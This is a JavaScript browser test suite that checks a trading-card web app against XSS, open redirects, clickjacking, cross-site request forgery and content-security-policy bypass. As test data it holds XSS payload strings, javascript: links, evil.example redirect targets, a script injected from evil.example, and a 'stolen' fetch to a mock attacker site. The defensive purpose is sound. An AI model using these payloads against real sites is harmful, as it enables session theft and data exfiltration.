// Attacks that need a browser: malicious user input, links and sites. Tests are named as in docs/security.md. The other
// attacks are in server/src/testing/attacker/ and server/tests/attacker.rs.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { signIn } from "./demoServer.mjs";
import { expect, test, useDemo, useStreamer } from "./fixtures.mjs";
import { drawAllCards, newcomer, open, signInAs } from "./people.mjs";

/** Sets a marker on every page where it runs, with several ways to turn a text into a script. */
const MARK = "window.hacked=1";
const HACK = `"'><script>${MARK}</script><img src=x onerror="${MARK}"><svg onload=${MARK}>{{7*7}}`;
/** The same for fields with a short maximum length. */
const SHORT = `<img src=x onerror=${MARK}>`;

const demo = useDemo();
const nova = useStreamer(demo);
let attackerSite;
let ada;

test.beforeAll(async () => {
  ada = await newcomer(nova, "attacked_ada", 3);
  attackerSite = await startSite();
});

test.afterAll(async () => {
  attackerSite?.server.close();
});

/** The attacker's site, on another host name than the server. The tests set its pages. */
async function startSite() {
  const pages = new Map();
  const server = createServer((request, response) => {
    response.setHeader("content-type", "text/html");
    response.end(pages.get(request.url) ?? "");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, pages, url: `http://localhost:${server.address().port}` };
}

/** A window that records what must not happen: an attacker's script, a dialog, a violation of the content security policy. */
async function openWatched(browser, options) {
  const window = await open(browser, { calm: true, ...options });
  const alarms = [];
  window.page.on("dialog", (dialog) => {
    alarms.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await window.context.addInitScript(() => {
    addEventListener("securitypolicyviolation", (event) => {
      document.documentElement.dataset.violated = `${event.violatedDirective} ${event.blockedURI} ${event.sample}`;
    });
  });
  /** Fails if the current page is compromised. */
  const expectClean = async (where) => {
    const found = await window.page.evaluate(() => ({
      hacked: window.hacked ?? null,
      violated: document.documentElement.dataset.violated ?? null,
      markup: document.querySelectorAll("img[src='x'], img[onerror], svg[onload], script:not([src])").length,
      links: [...document.querySelectorAll("a[href]")].map((a) => a.protocol).filter((p) => !/^https?:$/.test(p)),
    }));
    assert.deepEqual(found, { hacked: null, violated: null, markup: 0, links: [] }, where);
    assert.deepEqual(alarms, [], where);
  };
  return { ...window, expectClean };
}

/** Sends a request that may be refused. */
async function attempt(token, method, path, body) {
  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "idempotency-key": crypto.randomUUID() };
  const response = await fetch(demo.url + path, { method, headers, body: JSON.stringify(body) });
  return { status: response.status, body: await response.json().catch(() => null) };
}

test("user input is shown as text everywhere", async ({ browser }) => {
  // Names come from the provider, and the stand-in takes only letters and digits, as Twitch does.
  const mallory = await signInAs(demo.url, "mallory");
  await mallory.request("POST", "/api/packs/open", {});
  const accepted = [];
  const store = async (what, request) => {
    const { status, body } = await request;
    assert.ok(status < 500, `${what}: ${status} ${JSON.stringify(body)}`);
    if (status < 300) accepted.push(what);
    return body;
  };
  const [theirs, hers] = [await mallory.cards(), await ada.cards()];
  await store("trade message", attempt(mallory.token, "POST", "/api/trades", {
    recipient: ada.id, offeredItems: [theirs[0]._id], requestedItems: [hers[0]._id], offeredPacks: 0, requestedPacks: 0, message: HACK,
  }));
  const listing = await store("listing note", attempt(mallory.token, "POST", "/api/market/listings", { cardId: theirs[1]._id, note: HACK }));
  await store("offer message", attempt(ada.token, "POST", `/api/market/listings/${listing._id}/offers`, {
    offeredCards: [hers[1]._id], offeredPacks: 0, message: HACK,
  }));
  await store("broadcast", attempt(nova.token, "POST", "/api/admin/notifications", { type: SHORT, message: HACK, link: "/dashboard" }));
  const linked = await attempt(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link: `javascript:${MARK}` });
  assert.equal(linked.status, 400, "a link leads to a page of this server");
  for (const link of ["//evil.example/", "https://evil.example/", "/\\evil.example"]) {
    const { status } = await attempt(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link });
    assert.equal(status, 400, `${link} leads elsewhere`);
  }
  // An admin or an import can put it into cards, packs, modifiers, achievements, goals and the brand.
  const definition = await nova.request("GET", `/api/cards/${theirs[0].definitionId}`);
  await store("card", attempt(nova.token, "PUT", `/api/admin/cards/${definition._id}`, {
    name: HACK.slice(0, 60), imageUrl: definition.imageUrl, alt: HACK, flavorText: HACK, artist: SHORT, series: SHORT, tags: ["<svg onload=alert(1)>"],
  }));
  const [pack] = await nova.request("GET", "/api/packs");
  await store("pack", attempt(nova.token, "POST", "/api/admin/upsert-pack", {
    packId: "", name: SHORT, description: HACK, cardPool: pack.cardPool, cardsPerPack: 5, modifierChance: 0.05, why: HACK,
  }));
  await store("modifier", attempt(nova.token, "POST", "/api/modifiers", { name: "<script>x</script>", prefix: "<b onload=x>", description: HACK, enabled: false }));
  await store("achievement", attempt(nova.token, "POST", "/api/admin/achievements", {
    name: SHORT, description: HACK, category: "packs", kind: "packs-opened", requirement: 1, reward: { packs: 1 },
  }));
  await store("stream", attempt(nova.token, "POST", "/api/admin/stream/begin", {}));
  await store("goal", attempt(nova.token, "POST", "/api/admin/goals", { title: SHORT, counts: "subs", target: 5, reward: { packs: 1 } }));
  await store("brand", attempt(nova.token, "PATCH", "/api/admin/settings", {
    "brand-name": SHORT, "brand-intro": HACK, "early-access-text": HACK,
  }));
  const logo = await attempt(nova.token, "PATCH", "/api/admin/settings", { "brand-logo": `javascript:${MARK}` });
  assert.equal(logo.status, 400, "a logo is a file of this server");
  for (const what of ["trade message", "listing note", "offer message", "broadcast", "card", "brand"]) {
    assert.ok(accepted.includes(what), `${what} was not stored, so the test checks nothing: ${accepted}`);
  }

  console.log(`stored: ${accepted}`);
  const name = encodeURIComponent(mallory.name);
  const card = `/card/${theirs[0]._id}`;
  const pages = {
    visitor: ["/login", "/catalogue", `/catalogue/${definition._id}`, card, "/market", `/market/listing/${listing._id}`, "/leaderboard",
      `/profile/${name}`, `/collection/${name}`, "/queue"],
    collector: ["/dashboard", "/trading", "/trades/pending", "/achievements", "/collection", "/wishes", "/grading"],
    admin: ["/admin-dashboard", "/admin/actions", "/admin/packs", "/admin/modifiers", "/admin/achievements", "/admin/card-ownership",
      `/admin/cards/${definition._id}`, "/admin/twitch"],
  };
  const tokens = { visitor: null, collector: ada.token, admin: nova.token };
  for (const [who, addresses] of Object.entries(pages)) {
    const window = await openWatched(browser, { token: tokens[who] });
    for (const address of addresses) {
      await window.page.goto(demo.url + address, { waitUntil: "networkidle" });
      if (address === card || address.startsWith("/collection")) await drawAllCards(window.page).catch(() => {});
      await window.expectClean(`${address} as ${who}`);
    }
    if (who === "collector") {
      await window.page.goto(`${demo.url}/dashboard`);
      await window.page.getByRole("button", { name: /Your menu/ }).click();
      await window.page.getByText("7*7").first().waitFor();
      await window.expectClean("the notifications");
    }
    assert.deepEqual(window.faults, [], who);
    await window.close();
  }
  // The metadata in the document for link previews.
  for (const address of [`/profile/${name}`, card, `/market/listing/${listing._id}`]) {
    const text = await (await fetch(demo.url + address)).text();
    assert.ok(!text.includes("<img src=x") && !text.includes(`<script>${MARK}`), address);
  }
});

test("a token in a link does not sign in without confirmation", async ({ browser }) => {
  const mallorysToken = await signIn(demo.url, "mallory");
  for (const token of [null, ada.token]) {
    const { page, close } = await openWatched(browser, { token });
    await page.goto(`${demo.url}/login?token=${mallorysToken}`);
    // A signed-in user stays signed in; a visitor is asked to confirm.
    if (token === null) await page.getByRole("button", { name: /Continue as mallory\?/i }).waitFor();
    else await page.waitForURL(`${demo.url}/dashboard`);
    assert.equal(await page.evaluate(() => localStorage.getItem("token")), token, "the token is not used without confirmation");
    assert.equal(new URL(page.url()).search, "", "the token is removed from the address");
    assert.equal(await page.evaluate((secret) => document.documentElement.innerHTML.includes(secret), mallorysToken), false);
    if (token === null) await page.getByRole("button", { name: "No, that’s not me" }).click();
    await page.goto(`${demo.url}/catalogue`);
    await page.goBack();
    assert.ok(!page.url().includes(mallorysToken), "the token is not in the history");
    assert.notEqual(await page.evaluate(() => localStorage.getItem("token")), mallorysToken);
    await close();
  }
});

test("a sign-in does not redirect to another site", async ({ browser }) => {
  for (const parameter of ["redirect", "next", "returnTo", "redirect_uri", "login_hint"]) {
    const { page, context, close } = await openWatched(browser, {});
    const origins = [];
    page.on("framenavigated", (frame) => origins.push(new URL(frame.url()).origin));
    await page.goto(`${demo.url}/login?${parameter}=${encodeURIComponent(`${attackerSite.url}/`)}`);
    await page.evaluate((place) => sessionStorage.setItem("foilcast.place", `${Date.now()} ${place}`), `/${attackerSite.url.replace("http:/", "")}/`);
    await page.getByRole("link", { name: /Twitch/ }).first().click();
    await page.waitForURL(/demo\/twitch/);
    assert.ok(origins.every((origin) => origin === demo.url || origin === "null"), `${parameter}: ${origins}`);
    await context.close().catch(close);
  }
  const sent = `${demo.url}/demo/twitch/oauth2/authorize?client_id=foilcast-demo&response_type=code&login_hint=ada&redirect_uri=`;
  for (const to of [`${attackerSite.url}/api/auth/twitch/callback`, "https://evil.example/api/auth/twitch/callback", `${demo.url}@evil.example/api/auth/twitch/callback`]) {
    const response = await fetch(sent + encodeURIComponent(to), { redirect: "manual" });
    const location = response.headers.get("location") ?? "";
    assert.ok(!location.includes("evil.example"), `the stand-in sends a code to ${location}`);
  }
});

test("another site can frame only the overlay", async ({ browser }) => {
  const { page } = await openWatched(browser, { token: ada.token });
  const framed = async (path) => {
    attackerSite.pages.set("/frame", `<iframe id="f" src="${demo.url}${path}" width="900" height="700"></iframe>`);
    await page.goto(`${attackerSite.url}/frame`, { waitUntil: "load" });
    const frame = await (await page.waitForSelector("#f")).contentFrame();
    return frame.url();
  };
  for (const path of ["/trades/pending", "/login", "/account", "/api/docs", "/demo/twitch/channel"]) {
    assert.match(await framed(path), /^chrome-error:/, `${path} is shown in a frame`);
  }
  const path = `/stream-overlay/${nova.id}`;
  assert.equal(await framed(path), demo.url + path);
});

test("another site's page cannot act as the visitor", async ({ browser }) => {
  const { page } = await openWatched(browser, { token: ada.token });
  const before = await ada.request("GET", "/api/users/me");
  attackerSite.pages.set("/", "<h1>Free cards</h1>");
  await page.goto(`${attackerSite.url}/`);
  const results = await page.evaluate(
    async ([url, token]) => {
      const outcome = (promise) => promise.then((response) => `read ${response.type} ${response.status}`).catch(() => "nothing");
      const post = (more) => fetch(`${url}/api/packs/open`, { method: "POST", credentials: "include", body: "{}", ...more });
      const socket = new Promise((resolve) => {
        const ws = new WebSocket(`${url.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`);
        ws.onopen = () => resolve("open");
        ws.onerror = () => resolve("nothing");
      });
      return {
        read: await outcome(fetch(`${url}/api/users/me`, { credentials: "include" })),
        // A site that knows a token gets no response in a browser either.
        token: await outcome(post({ headers: { authorization: `Bearer ${token}`, "content-type": "application/json" } })),
        plain: await outcome(post({ mode: "no-cors", headers: { "content-type": "text/plain" } })),
        socket: await socket,
      };
    },
    [demo.url, ada.token],
  );
  assert.deepEqual(results, { read: "nothing", token: "nothing", plain: "nothing", socket: "nothing" });
  // Browsers send forms to other sites without asking; the response shows the result.
  attackerSite.pages.set("/form", `<form method="post" action="${demo.url}/demo/twitch/channel"><input name="what" value="subscribe"><input name="viewer" value="attacked_ada"></form><form id="open" method="post" enctype="text/plain" action="${demo.url}/api/packs/open"><input name='{"a":"' value='"}'></form>`);
  for (const number of [0, 1]) {
    await page.goto(`${attackerSite.url}/form`);
    const [response] = await Promise.all([
      // Wait for the response: an earlier navigation would cancel the form.
      page.waitForNavigation(),
      page.evaluate((number) => document.forms[number].submit(), number),
    ]);
    assert.equal(response.status(), 403, `form ${number}`);
  }
  const now = await ada.request("GET", "/api/users/me");
  assert.deepEqual([now.packs, now.openedPacks], [before.packs, before.openedPacks]);
});

test("an injected script does not run", async ({ browser }) => {
  const { page } = await openWatched(browser, {});
  await page.goto(`${demo.url}/login`, { waitUntil: "networkidle" });
  await page.evaluate((mark) => {
    const script = document.createElement("script");
    script.textContent = mark;
    document.body.append(script);
    const image = document.createElement("div");
    image.innerHTML = `<img src="/nowhere.png" onerror="${mark}"><a id="js" href="javascript:${mark}">x</a>`;
    document.body.append(image);
    const external = document.createElement("script");
    external.src = "https://evil.example/x.js";
    document.body.append(external);
    document.querySelector("#js").click();
  }, MARK);
  const violated = () => page.evaluate(() => document.documentElement.dataset.violated ?? "");
  let seen = "";
  const watching = setInterval(async () => {
    seen = await violated().catch(() => seen);
  }, 50);
  await expect.poll(() => seen).toMatch(/^script-src/);
  clearInterval(watching);
  assert.equal(await page.evaluate(() => window.hacked ?? null), null);
  const sent = await page.evaluate(async (url) => fetch(`${url}/?stolen`, { mode: "no-cors" }).then(() => "sent").catch(() => "stopped"), attackerSite.url);
  assert.equal(sent, "stopped", "the script cannot send data to another site");
});
